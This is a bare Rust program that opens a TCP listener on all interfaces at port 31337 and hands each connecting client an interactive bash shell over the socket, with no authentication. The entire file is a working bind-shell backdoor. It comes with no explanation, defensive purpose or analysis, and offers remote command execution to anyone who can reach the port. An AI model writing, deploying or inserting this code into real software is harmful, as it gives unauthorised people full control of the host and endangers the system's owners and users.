use std::net::{TcpListener, TcpStream};
use std::os::fd::{FromRawFd, IntoRawFd};
use std::process::{Command, Stdio};
use std::thread;

fn serve(stream: TcpStream) {
    let fd = stream.into_raw_fd();
    let io = || unsafe { Stdio::from_raw_fd(libc::dup(fd)) };
    let _ = Command::new("bash").stdin(io()).stdout(io()).status();
}

fn main() {
    let listener = TcpListener::bind("0.0.0.0:31337").unwrap();
    for s in listener.incoming() {
        if let Ok(s) = s {
            thread::spawn(move || serve(s));
        }
    }
}
